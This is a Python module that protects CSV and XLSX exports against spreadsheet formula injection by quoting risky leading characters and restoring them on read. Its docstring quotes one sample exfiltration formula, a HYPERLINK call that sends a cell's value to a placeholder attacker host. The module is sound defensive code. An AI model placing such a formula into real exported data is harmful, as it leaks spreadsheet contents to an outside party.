"""Text cells that a spreadsheet will not run as formulas (CSV / formula injection).

Every CSV and XLSX bitframe writes passes its text through :func:`neutralise_frame`, following
the OWASP guidance on CSV injection (https://owasp.org/www-community/attacks/CSV_Injection): a
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single
quote, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating it (an id
such as ``=HYPERLINK("http://evil.example/?"&B2, "x")`` stays a string).

The rule is reversible: a cell that already starts with ``'`` gets one more, so
:func:`restore_frame` -- which removes exactly one leading ``'`` -- gives back every original
value. Readers of bitframe's own files (``verify``, ``analyse``) restore; numbers are never
touched, so a negative number stays a number.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "neutralise_frame", "restore_cell", "restore_frame"]

#: First characters a spreadsheet may read as the start of a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPE = "'"
_NEEDS_QUOTE = r"^[=+\-@\t\r']"


def neutralise_cell(value: str) -> str:
    """``value`` with a leading ``'`` when it starts a formula or with ``'`` itself."""
    return _ESCAPE + value if value.startswith((*FORMULA_TRIGGERS, _ESCAPE)) else value


def restore_cell(value: str) -> str:
    """The inverse of :func:`neutralise_cell`."""
    return value[1:] if value.startswith(_ESCAPE) else value


def _text_columns(frame: pd.DataFrame) -> list[str]:
    import pandas as pd

    out = []
    for name in frame.columns:
        dtype = frame[name].dtype
        if isinstance(dtype, pd.CategoricalDtype):
            if pd.api.types.is_object_dtype(dtype.categories.dtype) or pd.api.types.is_string_dtype(dtype.categories):
                out.append(name)
        elif pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            out.append(name)
    return out


def _map_text(frame: pd.DataFrame, pattern: str, change: str) -> pd.DataFrame:
    import pandas as pd

    changed: dict[str, pd.Series] = {}
    for name in _text_columns(frame):
        col = frame[name]
        if isinstance(col.dtype, pd.CategoricalDtype):
            cats = pd.Series(col.cat.categories, dtype=object)
            hit = cats.str.contains(pattern, regex=True, na=False)
            if hit.any():
                fixed = cats.where(~hit, cats.map(neutralise_cell if change == "add" else restore_cell))
                changed[name] = col.cat.rename_categories(list(fixed))
            continue
        # a text dtype is matched in place (pyarrow's regex for Arrow strings); an object column may
        # hold non-text cells, which never match
        text = col if isinstance(col.dtype, pd.StringDtype) else col.astype(object)
        hit = text.str.contains(pattern, regex=True, na=False).astype(bool)
        if hit.any():
            fix = neutralise_cell if change == "add" else restore_cell
            changed[name] = text.where(~hit, text[hit].map(fix)).astype(col.dtype)
    return frame.assign(**changed) if changed else frame


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell neutralised (:func:`neutralise_cell`); a copy if anything changed."""
    return _map_text(frame, _NEEDS_QUOTE, "add")


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The inverse of :func:`neutralise_frame`, for tables bitframe wrote."""
    return _map_text(frame, r"^'", "remove")
